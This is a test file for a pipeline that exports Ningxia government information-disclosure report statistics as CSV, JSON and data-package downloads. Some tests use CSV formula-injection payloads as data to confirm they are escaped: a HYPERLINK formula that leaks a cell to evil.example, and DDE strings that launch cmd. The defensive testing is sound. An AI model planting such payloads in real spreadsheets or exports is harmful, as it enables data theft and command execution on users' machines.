import { createHash } from "node:crypto";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { allIndicators } from "../../../src/catalog/index.ts";
import { parseReport, reportIdPattern, type Report } from "../../../src/schema/report.ts";
import { buildDateFrom, resolveBuildDate } from "../../../src/site/datasets/build-date.ts";
import { codebookRows } from "../../../src/site/datasets/codebook.ts";
import { REPORT_ID_PATTERN, longColumns, wideMetadataColumns } from "../../../src/site/datasets/columns.ts";
import { BOM, FORMULA_START, parseCsv, plainNumber, toCsv } from "../../../src/site/datasets/csv.ts";
import { buildDownloads, type DownloadBundle } from "../../../src/site/datasets/index.ts";
import { prefectureName, rankStatistics } from "../../../src/site/datasets/observations.ts";
import { datasetJsonLd, jsonLdScript } from "../../../src/site/datasets/jsonld.ts";

const FIXTURES = join(import.meta.dirname, "../../fixtures/reports");

function loadFixtures(): Report[] {
  return readdirSync(FIXTURES)
    .filter((name) => name.endsWith(".json"))
    .sort()
    .map((name) => parseReport(JSON.parse(readFileSync(join(FIXTURES, name), "utf8")), name));
}

const BUILD = buildDateFrom(new Date(Date.UTC(2024, 5, 30, 12, 0, 0)));

function file(bundle: DownloadBundle, path: string): string {
  const found = bundle.byPath.get(path);
  if (!found) throw new Error(`no download ${path}`);
  return found.body();
}

/** Parse a CSV into header + records as objects keyed by column name. */
function table(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...records] = parseCsv(text);
  if (!header) throw new Error("empty CSV");
  return {
    header,
    rows: records.map((record) => {
      expect(record).toHaveLength(header.length);
      return Object.fromEntries(header.map((name, i) => [name, record[i]!]));
    }),
  };
}

function row(rows: Record<string, string>[], where: Record<string, string>): Record<string, string> {
  const found = rows.filter((r) => Object.entries(where).every(([k, v]) => r[k] === v));
  expect(found, JSON.stringify(where)).toHaveLength(1);
  return found[0]!;
}

/** A deep copy of a fixture to alter for one test. */
function altered(report: Report, change: (r: Report) => void): Report {
  const copy = structuredClone(report);
  change(copy);
  return parseReport(copy, `${report.id} (altered in test)`);
}

const fixtures = loadFixtures();
const byId = new Map(fixtures.map((r) => [r.id, r]));
const xingqing = byId.get("640104-2018")!;

describe("toCsv", () => {
  it("writes a BOM, CRLF after every record, and quotes commas, quotes and newlines", () => {
    const label = '不同意公开答复数, 其中"涉及国家秘密"';
    const csv = toCsv(["indicator_label", "note", "value"], [[label, "第一行\n第二行", 8573]]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toBe(`${BOM}indicator_label,note,value\r\n"不同意公开答复数, 其中""涉及国家秘密""","第一行\n第二行",8573\r\n`);
    expect(parseCsv(csv)).toEqual([
      ["indicator_label", "note", "value"],
      [label, "第一行\n第二行", "8573"],
    ]);
  });

  it("writes null as an empty cell and booleans as true/false", () => {
    expect(toCsv(["a", "b", "c"], [[null, true, false]])).toBe(`${BOM}a,b,c\r\n,true,false\r\n`);
  });

  it("refuses a row whose length differs from the header", () => {
    expect(() => toCsv(["a", "b"], [["only one"]])).toThrow(/row 1 has 1 cells, the header has 2/);
  });

  it("writes a text cell a spreadsheet would evaluate with a leading apostrophe, quoted when it needs quotes", () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
    const csv = toCsv(["a", "b", "c", "d", "e", "f"], [[hyperlink, "+86 951 1234567", "-3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]]);
    expect(csv).toBe(
      `${BOM}a,b,c,d,e,f\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")",'+86 951 1234567,'-3,'@SUM(A1:A2),'\t=1+1,"'\r=1+1"\r\n`,
    );
    expect(parseCsv(csv)[1]).toEqual([`'${hyperlink}`, "'+86 951 1234567", "'-3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1"]);
  });

  it("escapes the full-width ＝ ＋ － ＠ too, and leaves a formula character after the first alone", () => {
    expect(toCsv(["a", "b", "c", "d", "e"], [["＝1+1", "＋1", "－", "＠x", "1=1-1+@"]])).toBe(`${BOM}a,b,c,d,e\r\n'＝1+1,'＋1,'－,'＠x,1=1-1+@\r\n`);
  });

  it("writes negative numbers as numbers: only text cells are escaped", () => {
    expect(toCsv(["value", "raw_text"], [[-3, "-3"], [-0.5, "—"], [-2.5e-8, null]])).toBe(
      `${BOM}value,raw_text\r\n-3,'-3\r\n-0.5,—\r\n-0.000000025,\r\n`,
    );
  });

  it("writes numbers plainly: no exponent, no separators", () => {
    expect(plainNumber(73659)).toBe("73659");
    expect(plainNumber(0.5)).toBe("0.5");
    expect(plainNumber(-0)).toBe("0");
    expect(plainNumber(1e21)).toBe("1000000000000000000000");
    expect(plainNumber(1.5e21)).toBe("1500000000000000000000");
    expect(plainNumber(1.5e-7)).toBe("0.00000015");
    expect(plainNumber(-2.5e-8)).toBe("-0.000000025");
    expect(() => plainNumber(Number.NaN)).toThrow(/not a finite number/);
  });
});

describe("resolveBuildDate", () => {
  it("takes SOURCE_DATE_EPOCH when set", () => {
    expect(resolveBuildDate({ SOURCE_DATE_EPOCH: "1700000000" })).toEqual({
      timestamp: "2023-11-14T22:13:20Z",
      date: "2023-11-14",
    });
  });
  it("falls back to the current time", () => {
    const now = new Date(Date.UTC(2025, 0, 31, 23, 59, 59, 999));
    expect(resolveBuildDate({}, () => now)).toEqual({ timestamp: "2025-01-31T23:59:59Z", date: "2025-01-31" });
  });
  it("rejects a malformed SOURCE_DATE_EPOCH", () => {
    expect(() => resolveBuildDate({ SOURCE_DATE_EPOCH: "2024-01-01" })).toThrow(/SOURCE_DATE_EPOCH must be a whole number/);
  });
});

describe("long CSV", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const text = file(bundle, "reports-long.csv");
  const { header, rows } = table(text);

  it("is UTF-8 with BOM and CRLF only", () => {
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
  });

  it("has the documented header", () => {
    expect(header).toEqual(longColumns().map((c) => c.name));
  });

  it("has one row per observation and one for every catalog indicator a report does not give", () => {
    const perTemplate = allIndicators().length;
    let expected = 0;
    for (const report of fixtures) {
      const given = new Set(report.statistics.map((s) => s.indicator));
      expected += report.statistics.length + (perTemplate - given.size);
      const ids = new Set(rows.filter((r) => r.report_id === report.id).map((r) => r.indicator_id));
      expect(ids.size).toBe(perTemplate);
    }
    expect(rows).toHaveLength(expected);
    expect(bundle.main.find((f) => f.path === "reports-long.csv")!.rows).toBe(expected);
  });

  it("agrees with the report JSON for every observation", () => {
    for (const report of fixtures) {
      for (const s of report.statistics) {
        const r = row(rows, { report_id: report.id, indicator_id: s.indicator, origin: s.origin, source_line: String(s.line), raw_text: s.raw });
        expect(r.value).toBe(s.value === null ? "" : plainNumber(s.value));
        expect(r.value_status).toBe(s.value === null ? "not_reported" : "reported");
        expect(r.source_label).toBe(s.label);
        expect(r.note).toBe(s.note ?? "");
        expect(r.division_code).toBe(report.jurisdiction.code);
        expect(r.year).toBe(String(report.year));
      }
    }
  });

  it("gives the seed figures exactly, table first, the same figure from the prose after it", () => {
    const table148 = row(rows, { report_id: "640202-2017", indicator_id: "proactive_total", origin: "table" });
    expect(table148).toMatchObject({
      jurisdiction: "大武口区",
      jurisdiction_level: "county",
      prefecture: "石嘴山市",
      province: "宁夏回族自治区",
      indicator_label: "主动公开政府信息数",
      unit: "条",
      value: "8573",
      source_line: "148",
      is_primary: "true",
      check_status: "pass",
    });
    const text102 = row(rows, { report_id: "640202-2017", indicator_id: "proactive_total", origin: "text" });
    expect(text102).toMatchObject({ value: "8573", source_line: "102", is_primary: "false" });
    expect(text102.source_label).toMatch(/^大武口区通过政府网站/);
    expect(row(rows, { report_id: "640202-2017", indicator_id: "trainees" })).toMatchObject({ value: "70", source_line: "215" });
    expect(row(rows, { report_id: "640500-2017", indicator_id: "replies_denied" })).toMatchObject({
      jurisdiction_level: "prefecture",
      prefecture: "中卫市",
      value: "33",
      source_line: "376",
    });
  });

  it("marks an indicator the report does not mention as not_in_report with empty cells", () => {
    // 平罗县 2016 has no statistics table; its prose gives 受理政府信息公开申请5件 but nothing on fax requests.
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_fax" })).toMatchObject({
      value: "",
      value_status: "not_in_report",
      is_primary: "true",
      origin: "",
      source_line: "",
      raw_text: "",
      check_status: "not_assessable",
      failed_checks: "",
    });
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" })).toMatchObject({
      value: "5",
      origin: "text",
      source_line: "306",
      check_status: "not_assessable",
    });
  });

  it("quotes the prose sentence with its ASCII commas and reads it back unchanged", () => {
    const sentence = readFileSync(join(import.meta.dirname, "../../../sources/002_0db27c3e21f320cb.txt"), "utf8").split("\n")[305]!.trim();
    expect(sentence).toContain(",2016年受理政府信息公开申请5件,");
    expect(text).toContain(`,"${sentence}",`);
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" }).source_label).toBe(sentence);
  });

  it("writes a null value as an empty cell with status not_reported, and quotes a note with a comma and a quote", () => {
    const note = 'cell reads "—", no number';
    const withDash = altered(xingqing, (r) => {
      const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
      Object.assign(fax, { value: null, raw: "—", note });
    });
    const altText = file(buildDownloads([withDash], BUILD), "reports-long.csv");
    expect(altText).toContain(`,"cell reads ""—"", no number"\r\n`);
    expect(row(table(altText).rows, { indicator_id: "requests_fax" })).toMatchObject({
      value: "",
      value_status: "not_reported",
      raw_text: "—",
      note,
    });
    const wide = table(file(buildDownloads([withDash], BUILD), "reports-wide.csv")).rows[0]!;
    expect(wide.requests_fax).toBe("");
    expect(wide.requests_online).toBe("4");
  });

  it("marks every indicator a failed check concerns as fail, naming the rule", () => {
    const broken = altered(xingqing, (r) => {
      r.statistics.find((s) => s.indicator === "requests_online")!.value = 5;
      Object.assign(r.checks.find((c) => c.rule === "requests_received_sum")!, { status: "fail", message: "5 ≠ 1 + 0 + 5 + 0 = 6" });
    });
    const out = buildDownloads([broken], BUILD);
    const long = table(file(out, "reports-long.csv")).rows;
    for (const id of ["requests_received", "requests_in_person", "requests_fax", "requests_online", "requests_mail"]) {
      expect(row(long, { indicator_id: id })).toMatchObject({ check_status: "fail", failed_checks: "requests_received_sum" });
    }
    expect(row(long, { indicator_id: "requests_closed" }).check_status).toBe("pass");
    expect(row(long, { indicator_id: "complaints_total" }).check_status).toBe("none");
    expect(table(file(out, "reports-wide.csv")).rows[0]!.checks_failed).toBe("1");
  });
});

describe("spreadsheet formulas in report text", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
  const hostile = altered(xingqing, (r) => {
    r.title = `${HYPERLINK}2018年政府信息公开工作年度报告`;
    r.jurisdiction.name = "+cmd|' /C calc'!A0";
    r.publisher = "@SUM(1+1)*cmd|' /C calc'!A0";
    const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
    Object.assign(fax, { value: -3, raw: "-3", label: "\t=1+1", note: "\r=2+2" });
  });
  const bundle = buildDownloads([hostile], BUILD);
  const files = ["reports-long.csv", "reports-wide.csv", `reports/${hostile.id}.csv`, "indicators/requests_fax.csv"];

  it("leaves no cell of any CSV starting with = + - @ tab or CR unless it is a number", () => {
    for (const path of files) {
      const [header, ...records] = parseCsv(file(bundle, path));
      const numberColumns = new Set(header!.filter((name) => name === "value" || name === "source_line" || name === "year" || allIndicators().some((e) => e.indicator.id === name)));
      for (const record of records) {
        record.forEach((cell, i) => {
          if (numberColumns.has(header![i]!) && cell !== "") expect(Number.isFinite(Number(cell)), `${path} ${header![i]} ${cell}`).toBe(true);
          else expect(cell, `${path} ${header![i]}`).not.toMatch(FORMULA_START);
        });
      }
    }
  });

  it("keeps the text readable behind the apostrophe and the negative figure a number", () => {
    const long = row(table(file(bundle, "reports-long.csv")).rows, { indicator_id: "requests_fax" });
    expect(long).toMatchObject({ jurisdiction: "'+cmd|' /C calc'!A0", value: "-3", raw_text: "'-3", source_label: "'\t=1+1", note: "'\r=2+2" });
    const wide = table(file(bundle, "reports-wide.csv")).rows[0]!;
    expect(wide).toMatchObject({ title: `'${HYPERLINK}2018年政府信息公开工作年度报告`, publisher: "'@SUM(1+1)*cmd|' /C calc'!A0", requests_fax: "-3" });
    expect(Number(wide.requests_fax)).toBe(-3);
    expect(row(table(file(bundle, "indicators/requests_fax.csv")).rows, { report_id: hostile.id }).value).toBe("-3");
  });
});

describe("wide CSV", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const { header, rows } = table(file(bundle, "reports-wide.csv"));
  const indicatorIds = allIndicators().map((e) => e.indicator.id);

  it("has the metadata columns, then exactly one column per catalog indicator in catalog order", () => {
    const meta = wideMetadataColumns().map((c) => c.name);
    expect(header.slice(0, meta.length)).toEqual(meta);
    expect(header.slice(meta.length)).toEqual(indicatorIds);
    expect(new Set(header).size).toBe(header.length);
  });

  it("has one row per report, sorted by id", () => {
    expect(rows.map((r) => r.report_id)).toEqual(["640104-2018", "640202-2017", "640221-2016", "640303-2018", "640500-2017"]);
  });

  it("holds each report's primary value per indicator, empty where the report gives none", () => {
    for (const report of fixtures) {
      const r = row(rows, { report_id: report.id });
      for (const id of indicatorIds) {
        const primary = rankStatistics(report.statistics.filter((s) => s.indicator === id))[0];
        expect(r[id], `${report.id} ${id}`).toBe(primary?.value == null ? "" : plainNumber(primary.value));
      }
    }
    expect(row(rows, { report_id: "640202-2017" })).toMatchObject({ proactive_total: "8573", staff_total: "76", has_statistics_table: "true" });
    expect(row(rows, { report_id: "640221-2016" })).toMatchObject({
      proactive_total: "42704",
      proactive_website: "21080",
      requests_fax: "",
      trainees: "1014",
      has_statistics_table: "false",
      published_on: "",
    });
    expect(row(rows, { report_id: "640500-2017" })).toMatchObject({ proactive_total: "73659", prefecture: "中卫市" });
  });
});

describe("per-report and per-indicator files", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const long = table(file(bundle, "reports-long.csv"));

  it("per-report CSV is the long rows of that report", () => {
    for (const report of fixtures) {
      const own = table(file(bundle, `reports/${report.id}.csv`));
      expect(own.header).toEqual(long.header);
      expect(own.rows).toEqual(long.rows.filter((r) => r.report_id === report.id));
    }
  });

  it("per-report JSON is the validated report", () => {
    for (const report of fixtures) {
      expect(parseReport(JSON.parse(file(bundle, `reports/${report.id}.json`)), report.id)).toEqual(report);
    }
  });

  it("per-indicator CSV and JSON agree with the wide CSV", () => {
    const wide = table(file(bundle, "reports-wide.csv")).rows;
    for (const id of ["proactive_total", "requests_received", "fees_collected", "trainees"]) {
      const csv = table(file(bundle, `indicators/${id}.csv`));
      expect(csv.header).toEqual(["report_id", "division_code", "jurisdiction", "year", "value", "value_status", "source_line"]);
      expect(csv.rows.map((r) => [r.report_id, r.value])).toEqual(wide.map((w) => [w.report_id, w[id]]));
      const json = JSON.parse(file(bundle, `indicators/${id}.json`));
      expect(json.indicator.id).toBe(id);
      expect(json.rows.map((r: { value: number | null }) => (r.value === null ? "" : String(r.value)))).toEqual(csv.rows.map((r) => r.value));
    }
    const received = table(file(bundle, "indicators/requests_received.csv")).rows;
    expect(row(received, { report_id: "640500-2017" })).toMatchObject({ value: "43", value_status: "reported", source_line: "364" });
    expect(row(received, { report_id: "640221-2016" })).toMatchObject({ value: "5", source_line: "306" });
    const fax = table(file(bundle, "indicators/requests_fax.csv")).rows;
    expect(row(fax, { report_id: "640221-2016" })).toMatchObject({ value: "", value_status: "not_in_report", source_line: "" });
  });

  it("has a file pair for every report and every indicator", () => {
    expect(bundle.perReport.map((p) => p.report.id)).toEqual([...byId.keys()].sort());
    expect(bundle.perIndicator.map((p) => p.id)).toEqual(allIndicators().map((e) => e.indicator.id));
  });
});

describe("reports.json and the JSON Schema", () => {
  const bundle = buildDownloads([...fixtures].reverse(), BUILD);

  it("holds every validated report sorted by id under meta with the build date", () => {
    const all = JSON.parse(file(bundle, "reports.json"));
    expect(all.meta).toMatchObject({ buildDate: "2024-06-30T12:00:00Z", reportCount: 5, schemaVersion: "1.0.0", license: "CC-BY-4.0" });
    expect(all.reports.map((r: Report) => r.id)).toEqual([...byId.keys()].sort());
    for (const r of all.reports) expect(parseReport(r, r.id)).toEqual(byId.get(r.id));
  });

  it("publishes the report JSON Schema", () => {
    const schema = JSON.parse(file(bundle, "report.schema.json"));
    expect(schema.$schema).toBe("https://json-schema.org/draft/2020-12/schema");
    expect(schema.properties.statistics.type).toBe("array");
    expect(schema.required).toContain("jurisdiction");
  });
});

describe("datapackage.json", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const pkg = JSON.parse(file(bundle, "datapackage.json"));

  it("describes each CSV with schema fields exactly matching its header", () => {
    for (const path of ["reports-long.csv", "reports-wide.csv", "codebook.csv"]) {
      const resource = pkg.resources.find((r: { path: string }) => r.path === path);
      expect(resource.profile).toBe("tabular-data-resource");
      expect(resource.schema.fields.map((f: { name: string }) => f.name)).toEqual(table(file(bundle, path)).header);
      expect(resource.schema.missingValues).toEqual([""]);
      expect(resource.dialect).toMatchObject({ delimiter: ",", lineTerminator: "\r\n", header: true });
    }
  });

  it("gives the size and hash of every file it lists", () => {
    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual(["reports-long.csv", "reports-wide.csv", "reports.json", "codebook.csv"]);
    for (const resource of pkg.resources) {
      const body = Buffer.from(file(bundle, resource.path), "utf8");
      expect(resource.bytes).toBe(body.length);
      expect(resource.hash).toBe(`sha256:${createHash("sha256").update(body).digest("hex")}`);
    }
  });

  it("carries license, created date, sources, contributors and keywords", () => {
    expect(pkg.profile).toBe("data-package");
    expect(pkg.created).toBe("2024-06-30T12:00:00Z");
    expect(pkg.licenses).toEqual([{ name: "CC-BY-4.0", title: "Creative Commons Attribution 4.0 International", path: "https://creativecommons.org/licenses/by/4.0/" }]);
    expect(pkg.sources).toContainEqual({ title: "石嘴山市大武口区2017年政府信息公开工作年度报告", path: "http://www.dwk.gov.cn/" });
    expect(pkg.contributors).toContainEqual({ title: "大武口区人民政府办公室", role: "contributor" });
    expect(pkg.keywords).toContain("政府信息公开");
  });

  it("types the fields: codes as text, year as integer, values as number, is_primary as boolean", () => {
    const fields = Object.fromEntries(pkg.resources[0].schema.fields.map((f: { name: string }) => [f.name, f]));
    expect(fields.division_code).toMatchObject({ type: "string", constraints: { required: true, pattern: "\\d{6}" } });
    expect(fields.year.type).toBe("integer");
    expect(fields.value.type).toBe("number");
    expect(fields.is_primary).toMatchObject({ type: "boolean", trueValues: ["true"], falseValues: ["false"] });
    expect(fields.value_status.constraints.enum).toEqual(["reported", "not_reported", "not_in_report"]);
  });
});

describe("codebook", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const { rows } = table(file(bundle, "codebook.csv"));

  it("lists every column of both CSVs and every indicator once", () => {
    expect(rows.filter((r) => r.file === "reports-long.csv").map((r) => r.name)).toEqual(longColumns().map((c) => c.name));
    expect(rows.filter((r) => r.file === "reports-wide.csv" && r.kind === "column").map((r) => r.name)).toEqual(
      wideMetadataColumns().map((c) => c.name),
    );
    expect(rows.filter((r) => r.kind === "indicator").map((r) => r.name)).toEqual(allIndicators().map((e) => e.indicator.id));
    expect(rows).toHaveLength(codebookRows().length);
  });

  it("defines an indicator by its official row, unit, parent and rules", () => {
    expect(row(rows, { name: "requests_online" })).toMatchObject({
      title: "网络申请数",
      name_en: "Requests made online",
      unit: "件",
      parent: "requests_received",
      section: "三、依申请公开情况",
      template: "national-2008",
      description: "统计表行名：3. 网络申请数。单位：件。上级指标：收到申请数（requests_received）。勾稽关系：收到申请数 = 当面 + 传真 + 网络 + 信函。",
    });
  });
});

describe("determinism and errors", () => {
  it("gives byte-identical files for the same reports in any order", () => {
    const a = buildDownloads(fixtures, BUILD);
    const b = buildDownloads([...fixtures].reverse(), BUILD);
    expect([...b.byPath.keys()]).toEqual([...a.byPath.keys()]);
    for (const [path, f] of a.byPath) expect(b.byPath.get(path)!.body(), path).toBe(f.body());
  });

  it("lets the build date change only datapackage.json and reports.json", () => {
    const a = buildDownloads(fixtures, BUILD);
    const b = buildDownloads(fixtures, buildDateFrom(new Date(Date.UTC(2030, 0, 1))));
    const changed = [...a.byPath].filter(([path, f]) => b.byPath.get(path)!.body() !== f.body()).map(([path]) => path);
    expect(changed.sort()).toEqual(["datapackage.json", "reports.json"]);
  });

  it("names the report when its template is unknown or a statistic names an unknown indicator", () => {
    const unknownTemplate = altered(xingqing, (r) => {
      r.template = "national-2019";
    });
    expect(() => buildDownloads([unknownTemplate], BUILD)).toThrow("report 640104-2018: unknown statistics template: national-2019");
    const unknownIndicator = altered(xingqing, (r) => {
      r.statistics[0]!.indicator = "proactive_totl";
    });
    expect(() => buildDownloads([unknownIndicator], BUILD)).toThrow(
      'report 640104-2018: statistic on line 463 names indicator "proactive_totl", which template national-2008 does not have',
    );
    expect(() => buildDownloads([xingqing, xingqing], BUILD)).toThrow("two reports share the id 640104-2018");
  });

  it("leaves prefecture empty for a province and for a county directly under its province", () => {
    const province = altered(xingqing, (r) => {
      r.jurisdiction = { ...r.jurisdiction, code: "640000", name: "宁夏回族自治区", level: "province", parent: null };
    });
    expect(prefectureName(province)).toBe("");
    const direct = altered(xingqing, (r) => {
      r.jurisdiction = { ...r.jurisdiction, parent: { code: "640000", name: "宁夏回族自治区" } };
    });
    expect(prefectureName(direct)).toBe("");
  });
});

describe("schema.org Dataset JSON-LD", () => {
  const bundle = buildDownloads(fixtures, BUILD);
  const ld = datasetJsonLd(bundle, "https://data.example.cn/", "说明");

  it("lists every bulk file with an absolute contentUrl, format and size", () => {
    expect(ld.distribution.map((d) => d.contentUrl)).toEqual(bundle.main.map((f) => `https://data.example.cn/downloads/${f.path}`));
    expect(ld.distribution[0]).toMatchObject({ "@type": "DataDownload", encodingFormat: "text/csv" });
    expect(ld.distribution[0]!.contentSize).toBe(`${Buffer.byteLength(file(bundle, "reports-long.csv"), "utf8")} B`);
  });

  it("states license, coverage and the build date", () => {
    expect(ld).toMatchObject({
      "@type": "Dataset",
      license: "https://creativecommons.org/licenses/by/4.0/",
      temporalCoverage: "2016/2018",
      spatialCoverage: [{ "@type": "Place", name: "宁夏回族自治区" }],
      dateModified: "2024-06-30",
    });
  });

  it("cannot close its script element", () => {
    expect(jsonLdScript({ name: "</script><b>&\u2028" })).toBe('{"name":"\\u003c/script\\u003e\\u003cb\\u003e\\u0026\\u2028"}');
  });
});

describe("datapackage sources", () => {
  it("gives a source path only for a full http(s) URL", () => {
    const pkg = JSON.parse(file(buildDownloads(fixtures, BUILD), "datapackage.json"));
    // 平罗县's report prints its website as WWW.nxpl.gov.cn, without a scheme.
    expect(pkg.sources).toContainEqual({ title: "平罗县2016年政府信息公开工作年度报告" });
    expect(pkg.sources).toContainEqual({ title: "中卫市2017年政府信息公开工作年度报告", path: "http://www.nxzw.gov.cn/" });
  });
});

describe("Table Schema patterns", () => {
  it("writes the report id pattern as an anchored XML Schema regex that agrees with the schema's", () => {
    const xsd = new RegExp(`^(?:${REPORT_ID_PATTERN})$`);
    for (const id of ["640202-2017", "640104-caizheng-ju-2018", "640202-2017x", "640202-17", "640202--2017", "64020-2017"]) {
      expect(xsd.test(id), id).toBe(reportIdPattern.test(id));
    }
    expect(REPORT_ID_PATTERN).not.toMatch(/[\^$]|\(\?:/);
  });
});
